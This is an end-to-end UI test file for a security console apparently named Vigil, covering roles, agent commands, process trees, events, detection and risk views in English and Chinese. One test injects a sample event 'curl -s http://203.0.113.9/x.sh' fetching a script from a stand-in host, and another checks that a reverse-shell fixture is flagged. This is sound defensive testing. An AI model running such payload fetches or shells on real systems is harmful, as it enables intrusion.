// The console scenario against the fake API on 127.0.0.1, serving the
// built app (npm run build first).
import { existsSync, readdirSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openBrowser, type Browser } from './browser';
import { fakeToken, fakeUser, fakeViewerToken, liveAgent, startFakeServer } from './fake-server.mjs';
import { makeProcesses, reverseShell } from './fixtures-host.mjs';
import { runScenario, signIn } from './scenario';
import { apiRequest, until } from './steps';
import { screenshotDir } from './shots';
import { alertWalk, exceptionWalk, incidentWalk, matrixWalk, rulesWalk, viewerWalk } from './uiDetect';
import { inventoryWalk } from './uiInventory';
import { complianceViewerWalk, complianceWalk } from './uiCompliance';
import { riskViewerWalk, riskWalk } from './uiRisk';
import { notifyViewerWalk, notifyWalk } from './uiNotify';
import { baselinesWalk, intelViewerWalk, intelWalk } from './uiIntel';

const distIndex = new URL('../../internal/center/console/dist/index.html', import.meta.url);

describe('console against the fake API', () => {
  let server: Awaited<ReturnType<typeof startFakeServer>>;
  let browser: Browser;
  const shots = screenshotDir('vigil-console-ui');

  beforeAll(async () => {
    if (!existsSync(distIndex)) throw new Error('the console is not built: run npm run build first');
    // Uploads are read slowly enough for the browser's upload progress to move.
    server = await startFakeServer({ uploadStallMs: 800, uploadDelayMs: 2 });
    browser = await openBrowser({ locale: 'en-US' });
  });

  afterAll(async () => {
    await browser?.close();
    await server?.close();
    if (!shots.always && readdirSync(shots.dir).length === 0) rmSync(shots.dir, { recursive: true, force: true });
  });

  it('runs the analyst scenario', async () => {
    const page = await browser.context.newPage();
    await runScenario(page, {
      baseURL: server.url,
      credentials: fakeUser,
      agents: { 'web-01': 'online', 'db-01': 'lost', 'build-02': 'stopped', 'old-ws': 'uninstalled' },
      liveChange: { id: liveAgent.id, to: 'lost' },
      loginErrorText: 'missing or invalid token',
      requireNewAlert: true,
      requireMoreEvents: true,
      requireMoreAudit: true,
      requireCompliance: true,
      eventFilter: { category: 'process', q: 'sh' },
      shotsDir: shots.dir,
      shotsAlways: shots.always,
    });
    await page.close();

    // What the fake center received, seen from its side.
    const ack = server.requests.find((r) => r.method === 'POST' && r.path === '/alerts/al-0001/state');
    expect(ack?.body).toMatchObject({ state: 'acknowledged' });
    const filtered = server.requests.find((r) => r.path === '/events' && r.query.category?.[0] === 'process');
    expect(filtered?.query).toMatchObject({ category: ['process'], q: ['sh'], limit: ['100'] });
    expect(server.requests.some((r) => r.method === 'POST' && r.path === '/logout')).toBe(true);
    // What the administration steps left: nothing they created remains.
    expect(server.admin.joinTokens.some((t) => t.description.startsWith('console e2e'))).toBe(false);
    expect(server.admin.users.some((u) => u.name.startsWith('console-'))).toBe(false);
    expect(server.admin.apiTokens.some((t) => t.name.startsWith('console-'))).toBe(false);
    expect(server.admin.policies.map((p) => p.name).sort()).toEqual(['baseline', 'web']);
    const actions = new Set(server.admin.audit.map((e) => e.action));
    for (const a of ['token.create', 'user.create', 'apitoken.create', 'policy.put', 'agent.labels', 'command.ping']) expect(actions).toContain(a);
  });

  it('keeps a viewer to reading', async () => {
    const page = await browser.context.newPage();
    await page.goto(`${server.url}/login`);
    await signIn(page, { token: fakeViewerToken });
    await expect.poll(() => page.locator('.topbar .user-role').textContent()).toBe('viewer');
    expect(await page.locator('[data-testid=admin-nav] a').evaluateAll((as) => as.map((a) => a.getAttribute('href')))).toEqual(['/notify-channels']);
    for (const path of ['/join-tokens', '/users', '/api-tokens', '/audit']) {
      await page.goto(`${server.url}${path}`);
      await expect.poll(() => page.locator('[data-testid=needs-role]').textContent()).toContain('Needs role admin');
    }
    // Policies read-only, no agent changes, no commands above the role.
    await page.goto(`${server.url}/policies/web`);
    const editor = page.locator('[data-testid=policy-editor]');
    await editor.locator('.info-banner').waitFor();
    expect(await editor.locator('[data-testid=save-policy]').count()).toBe(0);
    expect(await editor.locator('textarea[name=spec]').getAttribute('readonly')).not.toBeNull();
    await page.goto(`${server.url}/agents/7f1c2a9e-0001`);
    const drawer = page.locator('[data-testid=agent-drawer]');
    await drawer.locator('[data-testid=agent-policy]').waitFor();
    expect(await drawer.locator('[data-testid=edit-labels]').isDisabled()).toBe(true);
    expect(await drawer.locator('[data-testid=delete-agent]').count()).toBe(0);
    // The process tree needs the analyst role: said before anything is sent.
    await drawer.locator('[data-tab=processes]').click();
    await expect.poll(() => drawer.locator('[data-testid=processes-forbidden]').textContent()).toContain('Needs role analyst');
    expect(await drawer.locator('[data-testid=processes-forbidden]').textContent()).toContain('you have the viewer role');
    if (shots.always) await page.screenshot({ path: join(shots.dir, 'viewer-processes.png') });
    await drawer.locator('[data-tab=events]').click();
    await drawer.locator('[data-testid=agent-events-table]').waitFor();
    await page.keyboard.press('Escape');
    await page.click('[data-testid=open-command]');
    const cmd = page.locator('[data-testid=command-drawer]');
    expect(await cmd.locator('[data-testid=send-command]').isDisabled()).toBe(true);
    expect(await cmd.locator('[data-testid=command-note]').textContent()).toContain('analyst');
    if (shots.always) await page.screenshot({ path: join(shots.dir, 'viewer-command.png') });
    await page.close();
  });

  it('sends collect to a label selector, refuses to demote the last admin and deletes an agent', async () => {
    const page = await browser.context.newPage();
    await page.goto(`${server.url}/agents`);
    await signIn(page, { token: fakeToken });
    await page.click('[data-testid=open-command]');
    const cmd = page.locator('[data-testid=command-drawer]');
    await cmd.locator('input[name=target][value=selector]').check();
    await cmd.locator('input[name=selector]').fill('role=web');
    await cmd.locator('select[name=command]').selectOption('collect');
    await cmd.locator('input[name=collector]').fill('host/facts');
    const [req] = await Promise.all([page.waitForRequest(apiRequest('POST', '/agents/commands')), cmd.locator('[data-testid=send-command]').click()]);
    expect(req.postDataJSON()).toEqual({ command: 'collect', selector: { role: 'web' }, args: { name: 'host/facts' }, timeout: '10s' });
    await expect.poll(() => cmd.locator('[data-testid=command-results] tbody tr[data-agent-id]').count()).toBe(2);
    await cmd.locator('tr[data-ok=true] button').first().click();
    await expect.poll(() => cmd.locator('tr.expanded .json-body').textContent()).toContain('host/facts');
    if (shots.always) await page.screenshot({ path: join(shots.dir, 'collect-selector.png') });
    await page.keyboard.press('Escape');

    await page.goto(`${server.url}/users`);
    const admin = page.locator('[data-testid=users-table] tr[data-user=admin]');
    await admin.locator('select[name=role]').selectOption('viewer');
    await expect.poll(() => page.locator('.error-banner').textContent()).toContain('last enabled admin');
    expect(await admin.locator('select[name=role]').inputValue()).toBe('admin');

    await page.goto(`${server.url}/agents/7f1c2a9e-0005`);
    const drawer = page.locator('[data-testid=agent-drawer]');
    await drawer.locator('[data-testid=delete-agent]').click();
    const [del] = await Promise.all([page.waitForRequest(apiRequest('DELETE', '/agents/7f1c2a9e-0005')), page.click('[data-testid=confirm-ok]')]);
    expect(del).toBeTruthy();
    await page.waitForURL((u) => u.pathname === '/agents');
    await drawer.waitFor({ state: 'detached' });
    await expect.poll(() => page.locator('tr[data-agent-id="7f1c2a9e-0005"]').count()).toBe(0);
    await page.close();
  });

  it('shows the wrong password message and signs in with a token', async () => {
    const page = await browser.context.newPage();
    await page.goto(`${server.url}/login`);
    await page.fill('input[name=username]', 'admin');
    await page.fill('input[name=password]', 'wrong');
    await page.click('[data-testid=login-password] button[type=submit]');
    await expect.poll(() => page.locator('.error-banner').textContent()).toContain('invalid username or password');
    await expect.poll(() => page.locator('.error-banner .error-code').textContent()).toBe('unauthorized');
    await signIn(page, { token: fakeToken });
    await expect.poll(() => page.locator('.topbar .user-name').textContent()).toBe('token:e2e');
    await page.close();
  });

  it('opens an agent by URL and shows its plugins, stats and history', async () => {
    const page = await browser.context.newPage();
    await page.goto(`${server.url}/agents/7f1c2a9e-0001`);
    await signIn(page, { token: fakeToken });
    await page.waitForURL((u) => u.pathname === '/agents/7f1c2a9e-0001');
    const drawer = page.locator('[data-testid=agent-drawer]');
    await drawer.locator('[data-testid=plugins-table]').waitFor();
    await expect.poll(() => drawer.locator('tr[data-plugin="exec/ebpf"]').textContent()).toContain('lacks BTF');
    const proccon = drawer.locator('tr[data-plugin="exec/proccon"] [data-testid=plugin-counters]');
    await expect.poll(() => proccon.locator('[data-counter=lost_records]').textContent()).toBe('lost records 12');
    await expect.poll(() => proccon.locator('[data-counter=lost_records]').getAttribute('class')).toContain('text-warn');
    await expect.poll(() => drawer.locator('[data-testid=stats]').textContent()).toContain('42 MiB');
    await expect.poll(() => drawer.locator('[data-testid=agent-history] tbody tr').count()).toBe(4);
    await drawer.locator('button[data-command=status]').click();
    await expect.poll(() => drawer.locator('[data-testid=command-result] .result').getAttribute('data-ok')).toBe('true');
    if (shots.always) await page.screenshot({ path: join(shots.dir, 'agent-plugins.png') });
    await page.close();
  });

  it("shows an agent's live process tree and its events, in both languages", async () => {
    const page = await browser.context.newPage();
    const agentId = '7f1c2a9e-0001';
    const isProcesses = (_: URL, r: { postDataJSON: () => unknown }) => (r.postDataJSON() as { command?: string }).command === 'processes';
    const processCalls = () => server.requests.filter((r) => r.method === 'POST' && r.path === '/agents/commands' && (r.body as { command?: string })?.command === 'processes').length;
    await page.goto(`${server.url}/agents/${agentId}`);
    await signIn(page, { token: fakeToken });
    const drawer = page.locator('[data-testid=agent-drawer]');
    await drawer.locator('[data-testid=plugins-table]').waitFor();

    // The tab sends "processes" to this agent alone, and is kept in the URL.
    const [req] = await Promise.all([page.waitForRequest(apiRequest('POST', '/agents/commands', isProcesses)), drawer.locator('[data-tab=processes]').click()]);
    expect(req.postDataJSON()).toMatchObject({ command: 'processes', agent_ids: [agentId] });
    await page.waitForURL((u) => u.pathname === `/agents/${agentId}` && u.searchParams.get('tab') === 'processes');
    const tree = drawer.locator('[data-testid=process-tree]');
    await tree.waitFor();
    const total = makeProcesses(Date.now(), agentId).length;
    await expect.poll(() => drawer.locator('[data-testid=process-count]').textContent()).toBe(`${total} processes · ${total} shown`);
    expect(await drawer.locator('[data-testid=processes-meta]').textContent()).toContain('process table from ebpf');

    // The reverse shell stands out, in the tree and above it.
    const shell = tree.locator(`tr[data-pid="${reverseShell.pid}"]`);
    expect(await shell.getAttribute('data-risk')).toBe('reverse-shell');
    expect(await shell.locator('.proc-risk').textContent()).toContain('Reverse shell');
    const risks = drawer.locator('[data-testid=process-risks]');
    expect(await risks.locator('.proc-alert-danger').textContent()).toContain(`stdin, stdout, stderr: tcp ${reverseShell.local} → ${reverseShell.remote}`);
    // A service writing to the journal (unix socket) is not flagged.
    expect(await tree.locator('tr[data-pid="640"]').getAttribute('data-risk')).toBeNull();
    // sudo runs as root for alice: a privilege change.
    expect(await tree.locator('tr[data-pid="40410"] [data-priv=true]').count()).toBe(1);
    if (shots.always) await page.screenshot({ path: join(shots.dir, 'processes.png') });

    // Collapse and expand sshd; open the shell's details.
    await tree.locator('tr[data-pid="811"] button.proc-toggle').click();
    await expect.poll(() => shell.count()).toBe(0);
    expect(await tree.locator('tr[data-pid="811"]').getAttribute('aria-expanded')).toBe('false');
    await tree.locator('tr[data-pid="811"] button.proc-toggle').click();
    await shell.waitFor();
    await shell.click();
    const detail = tree.locator('[data-testid=process-detail]');
    await expect.poll(() => detail.textContent()).toContain(`stdin: tcp ${reverseShell.local} → ${reverseShell.remote}`);
    expect(await detail.textContent()).toContain('/home/alice');
    expect(await detail.locator('[data-testid=process-ancestry]').textContent()).toContain('systemd (1) › sshd (811) › sshd (40211) › sshd (40230) › bash (40231) › bash (40377)');
    if (shots.always) await page.screenshot({ path: join(shots.dir, 'process-detail.png') });

    // The filter keeps the matches and their ancestors.
    const filter = drawer.locator('input[name=process-filter]');
    await filter.fill('nginx');
    await expect.poll(() => drawer.locator('[data-testid=process-count]').textContent()).toBe(`${total} processes · 6 shown · 5 matching`);
    expect(await tree.locator('tbody tr.proc-row').evaluateAll((rows) => rows.map((r) => (r as HTMLElement).dataset.pid))).toEqual(['1', '1180', '1181', '1182', '1183', '1184']);
    expect(await tree.locator('tr.proc-context').count()).toBe(1);
    await filter.fill('40410');
    await expect.poll(() => tree.locator('tbody tr.proc-row').count()).toBe(9);
    expect(await tree.locator('tr[data-pid="40410"] mark').textContent()).toBe('40410');
    await filter.fill('');
    // "Show" on the warning filters to the shell.
    await risks.locator('.proc-alert-danger button').click();
    await expect.poll(() => filter.inputValue()).toBe(String(reverseShell.pid));
    await filter.fill('');

    // Live: refreshes by itself, and keeps closed processes closed.
    await tree.locator('tr[data-pid="1180"] button.proc-toggle').click();
    await expect.poll(() => tree.locator('tr[data-pid="1181"]').count()).toBe(0);
    const before = processCalls();
    await drawer.locator('[data-testid=live-switch]').click();
    await until(() => processCalls() >= before + 2, 'two refreshes of the live process tree', 30_000);
    await until(async () => (await drawer.locator('[data-testid=refresh-processes]').isEnabled()), 'the refresh to end', 20_000);
    expect(await tree.locator('tr[data-pid="1181"]').count()).toBe(0);
    expect(await tree.locator('tr[data-pid="1180"]').getAttribute('aria-expanded')).toBe('false');
    // Closing the drawer stops it: no request in more than an interval
    // (counted once a request sent just before closing has landed).
    await page.keyboard.press('Escape');
    await drawer.waitFor({ state: 'detached' });
    await page.waitForTimeout(500);
    const closedAt = processCalls();
    await page.waitForTimeout(6000);
    expect(processCalls()).toBe(closedAt);

    // An agent that is not connected: its error, in words.
    await page.goto(`${server.url}/agents/7f1c2a9e-0003?tab=processes`);
    await expect.poll(() => drawer.locator('[data-testid=processes-error]').getAttribute('data-error')).toBe('agent offline');
    expect(await drawer.locator('[data-testid=processes-error]').textContent()).toContain('The agent is offline.');
    await page.keyboard.press('Escape');
    await drawer.waitFor({ state: 'detached' });

    // In Chinese.
    await page.click('.topbar .lang-switch button:has-text("中文")');
    await page.goto(`${server.url}/agents/${agentId}?tab=processes`);
    await tree.waitFor();
    expect(await drawer.locator('[data-tab=processes]').textContent()).toBe('进程');
    await expect.poll(() => drawer.locator('[data-testid=process-count]').textContent()).toBe(`共 ${total} 个进程 · 显示 ${total} 个`);
    expect(await shell.locator('.proc-risk').textContent()).toContain('反弹 Shell');
    expect(await tree.locator('thead').textContent()).toContain('命令行');
    expect(await risks.locator('.proc-alert-danger strong').textContent()).toBe('疑似反弹 Shell');
    if (shots.always) await page.screenshot({ path: join(shots.dir, 'processes-zh.png') });

    // The agent's events: the newest page, then new ones as they come.
    const [first] = await Promise.all([
      page.waitForRequest(apiRequest('GET', '/events', (u) => u.searchParams.get('agent_id') === agentId)),
      drawer.locator('[data-tab=events]').click(),
    ]);
    expect(new URL(first.url()).searchParams.get('limit')).toBe('50');
    const events = drawer.locator('[data-testid=agent-events-table]');
    await events.waitFor();
    expect(await drawer.locator('[data-testid=event-count]').textContent()).toBe('50 条事件');
    expect(await events.locator('thead').textContent()).toContain('类别 / 动作');
    server.addEvent({
      '@timestamp': new Date().toISOString(),
      event: { id: 'hev-live-1', kind: 'event', category: 'process', action: 'exec' },
      process: { pid: 40999, executable: '/usr/bin/curl', command_line: 'curl -s http://203.0.113.9/x.sh' },
      message: 'bash (pid 40377) executed /usr/bin/curl',
      agent: { id: agentId },
      host: { name: 'web-01' },
    });
    await until(async () => (await events.locator('tbody tr[data-event-id]').first().getAttribute('data-event-id')) === 'hev-live-1', 'the new event on top', 30_000);
    expect(server.requests.some((r) => r.path === '/events' && r.query.agent_id?.[0] === agentId && r.query.order?.[0] === 'asc')).toBe(true);

    // The category filter.
    const [filtered] = await Promise.all([
      page.waitForRequest(apiRequest('GET', '/events', (u) => u.searchParams.get('category') === 'network')),
      drawer.locator('[data-testid=event-category]').selectOption('network'),
    ]);
    expect(new URL(filtered.url()).searchParams.get('agent_id')).toBe(agentId);
    await until(async () => {
      const cats = await events.locator('tbody tr[data-event-id]').evaluateAll((rows) => rows.map((r) => (r as HTMLElement).dataset.category));
      return cats.length > 0 && cats.every((c) => c === 'network');
    }, 'only network events');
    expect(await drawer.locator('[data-testid=event-category] option:checked').textContent()).toBe('网络');
    await events.locator('tr[data-event-id="hev-0006"]').click();
    await expect.poll(() => events.locator('tr.expanded .json-body').textContent()).toContain('connection-attempted');
    if (shots.always) await page.screenshot({ path: join(shots.dir, 'agent-events-zh.png') });
    await page.keyboard.press('Escape');
    await drawer.waitFor({ state: 'detached' });
    await page.click('.topbar .lang-switch button:has-text("English")');
    await page.close();
  });

  it('shows the inventory: counts, searches, details, changes, in both languages, and per agent', async () => {
    const page = await browser.context.newPage();
    await inventoryWalk(page, server, fakeToken, shots);
    await page.close();
  });

  /**
   * walk runs one part on a new page: on failure it saves a screenshot and
   * names it in the error; either way the language goes back to English,
   * so that one failure does not fail the parts after it.
   */
  const walk = async (name: string, fn: (page: Page) => Promise<void>) => {
    const page = await browser.context.newPage();
    try {
      await fn(page);
    } catch (err) {
      const file = join(shots.dir, `${name}-failure.png`);
      await page.screenshot({ path: file }).catch(() => undefined);
      throw new Error(`${err instanceof Error ? err.message : String(err)}\nscreenshot: ${file}`, { cause: err });
    } finally {
      await page.evaluate(() => localStorage.setItem('vigil.lang', 'en')).catch(() => undefined);
      await page.close();
    }
  };

  it('walks an incident: timeline, process tree, peers, files, techniques, alerts, state and assignee, in both languages', async () => {
    await walk('incident', (page) => incidentWalk(page, server, fakeToken, shots));
  });

  it('follows alerts to their incident and rule, reads their evidence and makes an exception from one', async () => {
    await walk('alerts', (page) => alertWalk(page, server, fakeToken, shots));
  });

  it('filters rules, switches one off, reads the problems and imports rule files, in both languages', async () => {
    await walk('rules', (page) => rulesWalk(page, server, fakeToken, shots));
  });

  it('creates, edits and deletes an exception, in both languages', async () => {
    await walk('exceptions', (page) => exceptionWalk(page, server, fakeToken, shots));
  });

  it('draws the ATT&CK matrix and follows a cell to its rules and alerts, in both languages', async () => {
    await walk('attack', (page) => matrixWalk(page, server, fakeToken, shots));
  });

  it('keeps a viewer to reading detection', async () => {
    await walk('viewer', (page) => viewerWalk(page, server, fakeViewerToken));
  });

  it('walks risk management: overview, findings and filters, a CVE, patches, a host, weak passwords, word lists, an import and a sync', async () => {
    await walk('risk-en', (page) => riskWalk(page, server, fakeToken, shots, 'en'));
  });

  it('walks risk management in Chinese', async () => {
    await walk('risk-zh', (page) => riskWalk(page, server, fakeToken, shots, 'zh'));
  });

  it('keeps a viewer to reading risk', async () => {
    await walk('risk-viewer', (page) => riskViewerWalk(page, server, fakeViewerToken));
  });

  it('walks compliance: overview, a policy and a check, the catalogue, a host with a run, an exception and its report', async () => {
    await walk('compliance-en', (page) => complianceWalk(page, server, fakeToken, shots, 'en'));
  });

  it('walks compliance in Chinese', async () => {
    await walk('compliance-zh', (page) => complianceWalk(page, server, fakeToken, shots, 'zh'));
  });

  it('keeps a viewer to reading compliance', async () => {
    await walk('compliance-viewer', (page) => complianceViewerWalk(page, server, fakeViewerToken));
  });

  it('creates, tests, edits and deletes a notification channel', async () => {
    await walk('notify-en', (page) => notifyWalk(page, server, fakeToken, shots, 'en'));
  });

  it('walks the notification channels in Chinese', async () => {
    await walk('notify-zh', (page) => notifyWalk(page, server, fakeToken, shots, 'zh'));
  });

  it('keeps a viewer to reading the notification channels', async () => {
    await walk('notify-viewer', (page) => notifyViewerWalk(page, server, fakeViewerToken));
  });

  it('imports a feed, checks values, adds and deletes indicators and deletes the source', async () => {
    await walk('intel-en', (page) => intelWalk(page, server, fakeToken, shots, 'en'));
  });

  it('walks threat intelligence in Chinese', async () => {
    await walk('intel-zh', (page) => intelWalk(page, server, fakeToken, shots, 'zh'));
  });

  it('filters login baselines, opens a profile to its hours and resets it', async () => {
    await walk('baselines-en', (page) => baselinesWalk(page, server, fakeToken, shots, 'en'));
  });

  it('walks the login baselines in Chinese', async () => {
    await walk('baselines-zh', (page) => baselinesWalk(page, server, fakeToken, shots, 'zh'));
  });

  it('keeps a viewer to reading threat intelligence and login baselines', async () => {
    await walk('intel-viewer', (page) => intelViewerWalk(page, server, fakeViewerToken));
  });

  it('starts in Chinese for a Chinese browser', async () => {
    const zh = await openBrowser({ locale: 'zh-CN' });
    try {
      const page = await zh.context.newPage();
      await page.goto(`${server.url}/login`);
      await expect.poll(() => page.locator('.login-card h1').textContent()).toBe('登录');
      if (shots.always) await page.screenshot({ path: join(shots.dir, 'login-zh.png') });
      await signIn(page, { token: fakeToken });
      await expect.poll(() => page.locator('[data-testid=admin-nav] a[href="/join-tokens"]').textContent()).toBe('接入令牌');
      await page.click('.nav a[href="/join-tokens"]');
      await expect.poll(() => page.locator('.topbar h1').textContent()).toBe('接入令牌');
      await page.click('[data-testid=new-join-token]');
      await expect.poll(() => page.locator('[data-testid=join-token-dialog] h2').textContent()).toBe('新建接入令牌');
      if (shots.always) await page.screenshot({ path: join(shots.dir, 'join-token-zh.png') });
      await page.goto(`${server.url}/audit`);
      await page.locator('[data-testid=audit-table]').waitFor();
      if (shots.always) await page.screenshot({ path: join(shots.dir, 'audit-zh.png') });
    } finally {
      await zh.close();
    }
  });
});
